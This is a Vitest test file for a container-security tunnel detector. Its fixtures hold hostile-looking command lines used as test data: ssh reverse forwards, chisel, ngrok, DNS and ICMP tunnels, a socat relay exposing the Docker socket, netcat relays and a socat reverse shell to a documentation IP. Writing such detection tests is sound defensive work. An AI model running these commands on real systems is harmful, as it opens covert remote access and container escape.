import { describe, expect, it } from 'vitest';
import { runDetectors } from '../../../electron/engine/detect/run-detectors.js';
import { sshForwards, tunnelUse } from '../../../electron/engine/detect/network/tunnel-tools.js';
import { container, engine, hostProcs } from './fixtures.js';

/** One container whose first process is a service and whose second is `proc`; or `proc` alone as its first. */
function scan(proc: Record<string, unknown>, { own = false } = {}) {
  const procs = own
    ? [{ pid: 100, ppid: 1, ...proc }]
    : [
        { pid: 100, ppid: 1, comm: 'httpd', exe: '/bin/busybox', cmdline: 'httpd -f -p 8080' },
        { pid: 200, ppid: 100, ...proc },
      ];
  const c = container({}, { processes: hostProcs('x', procs) });
  return runDetectors(engine([c]), { only: ['tunnel'] }).findings;
}

const tool = (name: string, args: string) => ({
  comm: name,
  exe: `/usr/local/bin/${name}`,
  cmdline: `${name} ${args}`,
});

describe('tunnel detector', () => {
  it.each([
    [
      'ssh reverse forward',
      tool('ssh', '-f -N -R 0.0.0.0:2222:127.0.0.1:22 tunnel@198.51.100.7'),
      'high',
      'tunnel:ssh:-R',
    ],
    ['ssh flags clustered before -R', tool('ssh', '-fNR2222:localhost:22 u@198.51.100.7'), 'high', 'tunnel:ssh:-R'],
    ['ssh SOCKS proxy', tool('ssh', '-N -D 1080 u@203.0.113.5'), 'high', 'tunnel:ssh:-D'],
    [
      'ssh -o RemoteForward',
      tool('ssh', '-o RemoteForward=9000:127.0.0.1:80 -N u@203.0.113.5'),
      'high',
      'tunnel:ssh:-R',
    ],
    ['ssh tun device', tool('ssh', '-w 0:0 root@203.0.113.5'), 'high', 'tunnel:ssh:-w'],
    ['ssh local forward', tool('ssh', '-L 3306:10.0.0.8:3306 -N u@203.0.113.5'), 'medium', 'tunnel:ssh:-L'],
    [
      'dropbear client reverse forward',
      tool('dbclient', '-R 2222:127.0.0.1:22 u@203.0.113.5'),
      'high',
      'tunnel:ssh:-R',
    ],
    [
      'autossh keeping a reverse forward',
      tool('autossh', '-M 0 -N -R 2222:127.0.0.1:22 u@203.0.113.5'),
      'high',
      'tunnel:ssh:-R',
    ],
    ['chisel client', tool('chisel', 'client https://203.0.113.9:443 R:socks'), 'high', 'tunnel:chisel'],
    [
      'chisel as a script run by sh',
      { comm: 'chisel', exe: '/bin/busybox', cmdline: '/bin/sh /tmp/.x/chisel client 203.0.113.9:443 R:socks' },
      'high',
      'tunnel:chisel',
    ],
    ['ngrok', tool('ngrok', 'tcp 22'), 'high', 'tunnel:ngrok'],
    ['frp client', tool('frpc', '-c /tmp/frpc.ini'), 'high', 'tunnel:frpc'],
    ['ligolo agent', tool('ligolo-agent', '-connect 203.0.113.9:11601 -ignore-cert'), 'high', 'tunnel:ligolo-agent'],
    ['DNS tunnel', tool('iodine', '-f -P s3cret t1.example.net'), 'high', 'tunnel:iodine'],
    ['ICMP tunnel', tool('ptunnel', '-p 203.0.113.9 -lp 8000 -da 10.0.0.5 -dp 22'), 'high', 'tunnel:ptunnel'],
    [
      'socat reverse relay',
      tool('socat', 'TCP:203.0.113.7:443 TCP:127.0.0.1:22'),
      'high',
      'tunnel:socat:reverse-relay',
    ],
    [
      'socat pivot to another host',
      tool('socat', 'TCP-LISTEN:9000,fork TCP:10.0.0.5:22'),
      'medium',
      'tunnel:socat:relay',
    ],
    [
      'engine socket put on the network',
      tool('socat', 'TCP-LISTEN:2375,fork,reuseaddr UNIX-CONNECT:/var/run/docker.sock'),
      'critical',
      'tunnel:socat:engine-socket',
    ],
    ['openvpn started later', tool('openvpn', '--config /tmp/c.ovpn'), 'medium', 'tunnel:openvpn'],
    ['SOCKS proxy', tool('microsocks', '-p 1080'), 'medium', 'tunnel:microsocks'],
  ])('%s', (_name, proc, severity, ref) => {
    const f = scan(proc);
    expect(f.map((x) => [x.severity, `tunnel:${x.cause}`])).toEqual([[severity, ref]]);
    expect(f[0]!.attack.every((t) => ['T1572', 'T1090', 'T1071.004', 'T1095', 'T1611'].includes(t))).toBe(true);
  });

  it('is one step milder when the tunnel is the container own first process', () => {
    expect(scan(tool('chisel', 'server --reverse -p 8000'), { own: true }).map((f) => f.severity)).toEqual(['medium']);
    expect(scan(tool('cloudflared', 'tunnel run'), { own: true }).map((f) => f.severity)).toEqual(['low']);
    expect(scan(tool('socat', 'TCP-LISTEN:8080,fork TCP:127.0.0.1:80'), { own: true }).map((f) => f.severity)).toEqual([
      'low',
    ]);
  });

  it.each([
    ['git over ssh', tool('ssh', '-p 2222 -o BatchMode=yes git@203.0.113.10 git-upload-pack repo.git')],
    ['ssh remote command whose arguments look like flags', tool('ssh', 'u@203.0.113.10 tar -R -L -D /srv')],
    ['ssh with Tunnel=no', tool('ssh', '-o Tunnel=no u@203.0.113.10 uptime')],
    ['ssh server', { comm: 'sshd', exe: '/usr/sbin/sshd', cmdline: 'sshd -D -p 22' }],
    ['socat client on stdio', tool('socat', '- UNIX-CONNECT:/tmp/app.sock')],
    ['socat shell (the reverse-shell detector case)', tool('socat', 'TCP:203.0.113.7:4444 EXEC:/bin/sh')],
    ['cloudflared as a DNS proxy', tool('cloudflared', 'proxy-dns --port 5053')],
    ['a file named after a tool being edited', { comm: 'vi', exe: '/bin/busybox', cmdline: 'vi /etc/chisel.conf' }],
  ])('stays quiet for %s', (_name, proc) => {
    expect(scan(proc)).toEqual([]);
  });

  it('finds two netcats joined by a pipe, and not one netcat fed by another program', () => {
    const relay = [
      {
        pid: 300,
        ppid: 200,
        comm: 'nc',
        exe: '/bin/busybox',
        cmdline: 'nc -l -p 9000',
        stdio: ['/tmp/f', 'pipe:[41]', '/dev/null'],
      },
      {
        pid: 301,
        ppid: 200,
        comm: 'nc',
        exe: '/bin/busybox',
        cmdline: 'nc 10.0.0.5 22',
        stdio: ['pipe:[41]', '/tmp/f', '/dev/null'],
      },
    ];
    const c = container(
      {},
      { processes: hostProcs('x', [{ pid: 200, ppid: 1, comm: 'sh', cmdline: 'sh' }, ...relay]) },
    );
    expect(runDetectors(engine([c]), { only: ['tunnel'] }).findings.map((f) => [f.severity, f.cause])).toEqual([
      ['medium', 'nc:relay'],
    ]);
    const fed = [
      {
        pid: 300,
        ppid: 200,
        comm: 'sleep',
        exe: '/bin/busybox',
        cmdline: 'sleep 3600',
        stdio: ['/dev/null', 'pipe:[42]', '/dev/null'],
      },
      {
        pid: 301,
        ppid: 200,
        comm: 'nc',
        exe: '/bin/busybox',
        cmdline: 'nc 10.0.0.5 22',
        stdio: ['pipe:[42]', '/dev/null', '/dev/null'],
      },
      {
        pid: 302,
        ppid: 200,
        comm: 'nc',
        exe: '/bin/busybox',
        cmdline: 'nc -l -p 9000',
        stdio: ['/dev/null', '/tmp/upload', '/dev/null'],
      },
    ];
    const d = container({}, { processes: hostProcs('y', [{ pid: 200, ppid: 1, comm: 'sh', cmdline: 'sh' }, ...fed]) });
    expect(runDetectors(engine([d]), { only: ['tunnel'] }).findings).toEqual([]);
  });

  it('finds netcat sent through a proxy', () => {
    expect(scan(tool('nc', '-X 5 -x 203.0.113.5:1080 10.0.0.5 22')).map((f) => f.cause)).toEqual(['nc:proxy']);
    expect(scan(tool('ncat', '--proxy 203.0.113.5:3128 --proxy-type http 10.0.0.5 22')).map((f) => f.cause)).toEqual([
      'ncat:proxy',
    ]);
    expect(scan(tool('nc', '-z 10.0.0.5 22'))).toEqual([]);
  });

  it('reads ssh options up to the destination only', () => {
    expect(sshForwards(['-fNR', '2222:localhost:22', 'u@h'])).toEqual(['R']);
    expect(sshForwards(['-i', '/k/-R', '-p', '22', 'u@h'])).toEqual([]);
    expect(sshForwards(['-oDynamicForward 1080', 'u@h'])).toEqual(['D']);
    expect(sshForwards(['-D', '1080', '-L', '1:h:2', 'u@h'])).toEqual(['D', 'L']);
    expect(tunnelUse(['ssh'], ['-D', '1080', '-R', '1:h:2', 'u@h'])?.severity).toBe('high');
  });
});
